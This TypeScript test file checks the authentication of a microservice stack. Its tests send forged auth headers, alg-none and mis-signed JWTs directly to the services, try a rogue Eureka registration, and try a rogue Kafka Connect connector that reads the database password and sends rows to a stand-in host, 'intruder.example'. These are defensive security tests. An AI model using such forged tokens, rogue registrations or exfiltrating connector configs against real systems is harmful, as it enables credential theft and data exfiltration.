import test from 'ava';
import { randomUUID } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import {
  connectApiFromEnv,
  connectAuthorization,
  connectorFiles,
  eurekaApiFromEnv,
  mintToken,
  serviceInstanceUrls,
} from '@cdc-outbox-saga/local-stack';
import { api, bearer, createProduct, createUser, placeOrder, subject, type Answer } from '../helpers/api.js';
import { databases } from '../helpers/databases.js';
import { hasSecurityHeaders, isJsonError, seenFetch, writesNothing, type RowScope } from './helpers/checks.js';
import { inSeconds, signedToken, strangerKey, unsignedToken } from './helpers/tokens.js';

// Trust between the parts: a domain service reached directly believes no header and no caller without
// a token it verified itself; Eureka takes no registration and Kafka Connect no request without credentials.

const { dbs } = databases();
const newMarker = () => `sec-${randomUUID().slice(0, 13)}`;

/** The first instance of each domain service, as this environment starts them. */
function instanceOf(service: 'order' | 'product' | 'user'): string {
  const url = Object.entries(serviceInstanceUrls()).find(([name]) => name.startsWith(`${service}-`))?.[1];
  if (!url) throw new Error(`no ${service} instance in this environment`);
  return url;
}

/** A request straight to a service instance, past the gateway. */
async function direct(
  service: 'order' | 'product' | 'user',
  method: string,
  path: string,
  options: { body?: unknown; headers?: Record<string, string>; token?: string } = {},
): Promise<Answer> {
  const response = await fetch(`${instanceOf(service)}${path}`, {
    method,
    headers: {
      ...(options.body === undefined ? {} : { 'content-type': 'application/json' }),
      ...(options.token === undefined ? {} : { authorization: `Bearer ${options.token}` }),
      ...options.headers,
    },
    body: options.body === undefined ? undefined : JSON.stringify(options.body),
    signal: AbortSignal.timeout(30_000),
  });
  const text = await response.text();
  let body: unknown = text;
  try {
    body = JSON.parse(text);
  } catch {
    /* not JSON: the check shows the text */
  }
  return { status: response.status, body, headers: response.headers };
}

/** An order of this file's subject, placed through the gateway, with its user and product. */
const placed = (async () => {
  const userId = await createUser(100);
  const productId = await createProduct(1, 10);
  const answer = await placeOrder(userId, [{ productId, quantity: 1 }]);
  if (answer.status !== 201) throw new Error(`placing the order answered ${answer.status}: ${JSON.stringify(answer.body)}`);
  return { userId, productId, orderId: answer.body.id as string };
})();

// --- Each service, reached directly --------------------------------------------------------------

interface DirectCase {
  service: 'order' | 'product' | 'user';
  method: string;
  path: (ids: { userId: string; productId: string; orderId: string }) => string;
  body?: (marker: string, ids: { userId: string; productId: string }) => unknown;
  headers?: Record<string, string>;
  token?: () => Promise<string>;
  code: string;
}

const refusedDirectly = test.macro<[DirectCase]>({
  async exec(t, c) {
    const ids = await placed;
    const marker = newMarker();
    const key = `sec-${randomUUID()}`;
    const scope: RowScope = { marker, userIds: [ids.userId], productIds: [ids.productId], subject, idempotencyKeys: [key] };
    const answer = await writesNothing(t, dbs, scope, async () =>
      direct(c.service, c.method, c.path(ids), {
        body: c.body?.(marker, ids),
        headers: { 'idempotency-key': key, ...c.headers },
        token: await c.token?.(),
      }),
    );
    isJsonError(t, seenFetch(answer), 401, c.code);
    t.regex(answer.headers.get('www-authenticate') ?? '', /^Bearer\b/, 'a Bearer challenge');
  },
  title: (what = '', c) => `${c.service} service directly: ${c.method} ${what} is a 401 ${c.code} and writes nothing`,
});

const forgedHeaders = { 'x-auth-subject': 'support-desk', 'x-auth-scopes': 'orders:read-all users:admin' };
const newUser = (marker: string) => ({ name: marker, points: 1_000_000_000_000 });
const newProduct = (marker: string) => ({ name: marker, price: 0, stock: 1_000_000 });
const newOrder = (_: string, ids: { userId: string; productId: string }) => ({
  userId: ids.userId,
  items: [{ productId: ids.productId, quantity: 1 }],
});

test.serial('a user with 10^12 points, without a token', refusedDirectly, {
  service: 'user',
  method: 'POST',
  path: () => '/users',
  body: newUser,
  code: 'TOKEN_MISSING',
});
test.serial('a user, with X-Auth-Subject and X-Auth-Scopes only', refusedDirectly, {
  service: 'user',
  method: 'POST',
  path: () => '/users',
  body: newUser,
  headers: forgedHeaders,
  code: 'TOKEN_MISSING',
});
test.serial('a user, with Basic credentials', refusedDirectly, {
  service: 'user',
  method: 'POST',
  path: () => '/users',
  body: newUser,
  headers: { authorization: 'Basic YWRtaW46YWRtaW4=' },
  code: 'TOKEN_MISSING',
});
test.serial('a user, with an unsigned (alg none) token', refusedDirectly, {
  service: 'user',
  method: 'POST',
  path: () => '/users',
  body: newUser,
  token: async () => unsignedToken(subject, 'orders:read-all'),
  code: 'TOKEN_INVALID',
});
test.serial("a user's row, without a token", refusedDirectly, {
  service: 'user',
  method: 'GET',
  path: ({ userId }) => `/users/${userId}`,
  headers: forgedHeaders,
  code: 'TOKEN_MISSING',
});
test.serial('a product, without a token', refusedDirectly, {
  service: 'product',
  method: 'POST',
  path: () => '/products',
  body: newProduct,
  code: 'TOKEN_MISSING',
});
test.serial('a product, signed by another key', refusedDirectly, {
  service: 'product',
  method: 'POST',
  path: () => '/products',
  body: newProduct,
  token: async () => signedToken({ sub: subject }, await strangerKey()),
  code: 'TOKEN_INVALID',
});
test.serial('a product, with an expired token', refusedDirectly, {
  service: 'product',
  method: 'POST',
  path: () => '/products',
  body: newProduct,
  token: () => signedToken({ sub: subject, iat: inSeconds(-7200), exp: inSeconds(-3600) }),
  code: 'TOKEN_EXPIRED',
});
test.serial('an order, without a token', refusedDirectly, {
  service: 'order',
  method: 'POST',
  path: () => '/orders',
  body: newOrder,
  code: 'TOKEN_MISSING',
});
test.serial('an order, with X-Auth-Subject only', refusedDirectly, {
  service: 'order',
  method: 'POST',
  path: () => '/orders',
  body: newOrder,
  headers: { 'x-auth-subject': subject },
  code: 'TOKEN_MISSING',
});
test.serial("someone's order, with X-Auth-Scopes: orders:read-all only", refusedDirectly, {
  service: 'order',
  method: 'GET',
  path: ({ orderId }) => `/orders/${orderId}`,
  headers: forgedHeaders,
  code: 'TOKEN_MISSING',
});
test.serial("someone's order, with a token for another audience", refusedDirectly, {
  service: 'order',
  method: 'GET',
  path: ({ orderId }) => `/orders/${orderId}`,
  token: () => signedToken({ sub: subject, aud: 'someone-else' }),
  code: 'TOKEN_WRONG_AUDIENCE',
});
test.serial("someone's order, with a token of another issuer", refusedDirectly, {
  service: 'order',
  method: 'GET',
  path: ({ orderId }) => `/orders/${orderId}`,
  token: () => signedToken({ sub: subject, iss: 'https://issuer.example' }),
  code: 'TOKEN_INVALID',
});
test.serial("someone's order, with a token valid for 100 years", refusedDirectly, {
  service: 'order',
  method: 'GET',
  path: ({ orderId }) => `/orders/${orderId}`,
  token: () => signedToken({ sub: subject, exp: inSeconds(100 * 365 * 86_400) }),
  code: 'TOKEN_INVALID',
});

test.serial('a valid token in the query string is no token either', async (t) => {
  const { productId } = await placed;
  const answer = await direct('product', 'GET', `/products/${productId}?access_token=${await bearer()}`);
  isJsonError(t, seenFetch(answer), 401, 'TOKEN_MISSING');
});

test.serial("the services' refusals carry nosniff and no-store", async (t) => {
  for (const service of ['order', 'product', 'user'] as const) {
    const answer = await direct(service, 'GET', `/${service}s/${randomUUID()}`);
    t.is(answer.status, 401, `${service}: ${JSON.stringify(answer.body)}`);
    hasSecurityHeaders(t, seenFetch(answer), service);
  }
});

test.serial("at the order service directly, a token's subject reads its own orders only, whatever headers come with it", async (t) => {
  const { orderId } = await placed;
  const stranger = await mintToken({ subject: `stranger-${randomUUID().slice(0, 8)}` });
  const cases: Array<[string, Record<string, string>]> = [
    ['a stranger', {}],
    ['a stranger claiming orders:read-all in a header', { 'x-auth-scopes': 'orders:read-all' }],
    ['a stranger naming the owner in a header', { 'x-auth-subject': subject }],
  ];
  for (const [what, headers] of cases) {
    isJsonError(
      t,
      seenFetch(await direct('order', 'GET', `/orders/${orderId}`, { token: stranger, headers })),
      404,
      'ORDER_NOT_FOUND',
      what,
    );
  }
  const own = await direct('order', 'GET', `/orders/${orderId}`, { token: await bearer() });
  t.is(own.status, 200, `the owner: ${JSON.stringify(own.body)}`);
  t.is(own.body.id, orderId);
  const support = await mintToken({ subject: 'support-desk', scopes: ['orders:read-all'] });
  t.is((await direct('order', 'GET', `/orders/${orderId}`, { token: support })).status, 200, 'a token with the read-all scope');
});

test('/health and /metrics of the services stay open to the stack', async (t) => {
  for (const service of ['order', 'product', 'user'] as const) {
    const health = await fetch(`${instanceOf(service)}/health`, { signal: AbortSignal.timeout(5000) });
    t.is(health.status, 200, service);
    t.is(((await health.json()) as { status?: string }).status, 'UP');
    const metrics = await fetch(`${instanceOf(service)}/metrics`, { signal: AbortSignal.timeout(5000) });
    t.is(metrics.status, 200, service);
    t.regex(await metrics.text(), /^# (HELP|TYPE) /m);
  }
});

// --- Eureka ---------------------------------------------------------------------------------------

// Eureka and Connect as the environment names them (their credentials only to check what was refused).
const eurekaApi = eurekaApiFromEnv();
const eurekaBase = eurekaApi.url;
const eurekaAuth = `Basic ${Buffer.from(`${eurekaApi.username}:${eurekaApi.password}`, 'utf8').toString('base64')}`;

/** A server that counts what reaches it and answers nothing (it drops the connection). */
async function trap(): Promise<{ server: Server; port: number; requests: () => number }> {
  let requests = 0;
  const server = createServer((req) => {
    requests += 1;
    req.socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, port: (server.address() as { port: number }).port, requests: () => requests };
}

function registration(instanceId: string, port: number) {
  const base = `http://127.0.0.1:${port}`;
  return {
    instance: {
      instanceId,
      hostName: '127.0.0.1',
      app: 'ORDER',
      ipAddr: '127.0.0.1',
      status: 'UP',
      port: { $: port, '@enabled': 'true' },
      securePort: { $: 443, '@enabled': 'false' },
      vipAddress: 'order',
      secureVipAddress: 'order',
      homePageUrl: `${base}/`,
      statusPageUrl: `${base}/health`,
      healthCheckUrl: `${base}/health`,
      dataCenterInfo: { '@class': 'com.netflix.appinfo.InstanceInfo$DefaultDataCenterInfo', name: 'MyOwn' },
      leaseInfo: { renewalIntervalInSecs: 5, durationInSecs: 15 },
      metadata: {},
      lastDirtyTimestamp: String(Date.now()),
    },
  };
}

async function eurekaCall(method: string, path: string, body?: unknown, authorization?: string): Promise<number> {
  const response = await fetch(`${eurekaBase}${path}`, {
    method,
    headers: {
      accept: 'application/json',
      ...(body === undefined ? {} : { 'content-type': 'application/json' }),
      ...(authorization ? { authorization } : {}),
    },
    body: body === undefined ? undefined : JSON.stringify(body),
    signal: AbortSignal.timeout(5000),
  });
  await response.arrayBuffer();
  return response.status;
}

test.serial('a rogue ORDER instance cannot register with Eureka without credentials, and the gateway never routes to it', async (t) => {
  const rogue = await trap();
  const instanceId = `rogue-${randomUUID().slice(0, 8)}`;
  try {
    const registered = await eurekaCall('POST', '/apps/ORDER', registration(instanceId, rogue.port));
    // An open Eureka took it: take it out at once, before the gateway's next read sends the stack's traffic there.
    if (registered >= 200 && registered < 300) await eurekaCall('DELETE', `/apps/ORDER/${instanceId}`);
    t.is(registered, 401, 'registration without credentials');
    t.is(
      await eurekaCall('PUT', `/apps/ORDER/${instanceId}?status=UP&lastDirtyTimestamp=${Date.now()}`),
      401,
      'heartbeat without credentials',
    );
    t.is(await eurekaCall('PUT', `/apps/ORDER/${instanceId}/status?value=UP`), 401, 'status change without credentials');
    t.is(await eurekaCall('DELETE', `/apps/ORDER/${instanceId}`), 401, 'cancel without credentials');
    // What the gateway routes by: Eureka's listing, read with the credentials, has the real instances only.
    isJsonError(t, seenFetch(await api('GET', `/orders/${randomUUID()}`)), 404, 'ORDER_NOT_FOUND', 'an order request');
    t.is(rogue.requests(), 0, 'no request reached the rogue instance');
    const listing = await fetch(`${eurekaBase}/apps/ORDER`, {
      headers: { accept: 'application/json', authorization: eurekaAuth },
      signal: AbortSignal.timeout(5000),
    });
    const listed = await listing.text();
    t.is(listing.status, 200, `Eureka with its credentials: ${listed.slice(0, 200)}`);
    t.regex(listed, /"instanceId"/, 'the real ORDER instances are listed');
    t.false(listed.includes(instanceId), 'the rogue one is not');
  } finally {
    rogue.server.close();
  }
});

// --- Kafka Connect --------------------------------------------------------------------------------

const connectApi = connectApiFromEnv();
const connect = connectApi.url;
const connectAuth = connectAuthorization(connectApi);

async function connectCall(
  method: string,
  path: string,
  body?: unknown,
  authorization?: string,
): Promise<{ status: number; text: string }> {
  const response = await fetch(`${connect}${path}`, {
    method,
    headers: {
      accept: 'application/json',
      ...(body === undefined ? {} : { 'content-type': 'application/json' }),
      ...(authorization ? { authorization } : {}),
    },
    body: body === undefined ? undefined : JSON.stringify(body),
    signal: AbortSignal.timeout(15_000),
  });
  return { status: response.status, text: await response.text() };
}

test.serial('Kafka Connect answers 401 to requests without credentials, and no connector is created', async (t) => {
  for (const path of ['/connectors', `/connectors/${connectorFiles()[0]!.name}/config`, '/connector-plugins']) {
    const answer = await connectCall('GET', path);
    t.is(answer.status, 401, `GET ${path}: ${answer.text.slice(0, 200)}`);
  }
  const name = `rogue-${randomUUID().slice(0, 8)}`;
  // What an intruder would want: the stack's passwords through the env provider, rows sent elsewhere.
  // Incomplete on purpose (no topic.prefix), so that even an open Connect refuses to create it.
  const rogue = {
    name,
    config: {
      'connector.class': 'io.debezium.connector.mysql.MySqlConnector',
      'database.hostname': '127.0.0.1',
      'database.user': 'root',
      'database.password': '${env:DB_PASSWORD}',
      'producer.override.bootstrap.servers': 'intruder.example:9092',
    },
  };
  // An open Connect that took it anyway: delete it at once.
  const removeIfTaken = async (answer: { status: number }) => {
    if (answer.status >= 200 && answer.status < 300) await connectCall('DELETE', `/connectors/${name}`);
  };
  const created = await connectCall('POST', '/connectors', rogue);
  await removeIfTaken(created);
  t.is(created.status, 401, `POST /connectors: ${created.text.slice(0, 300)}`);
  const put = await connectCall('PUT', `/connectors/${name}/config`, rogue.config);
  await removeIfTaken(put);
  t.is(put.status, 401, `PUT /connectors/:name/config: ${put.text.slice(0, 300)}`);
  // With the credentials: Connect answers, and knows no such connector.
  const listed = await connectCall('GET', '/connectors', undefined, connectAuth);
  t.is(listed.status, 200, `GET /connectors with the credentials: ${listed.text.slice(0, 200)}`);
  if (listed.status === 200) t.false((JSON.parse(listed.text) as string[]).includes(name), `no connector ${name}`);
  t.is((await connectCall('GET', `/connectors/${name}`, undefined, connectAuth)).status, 404, 'no such connector');
});
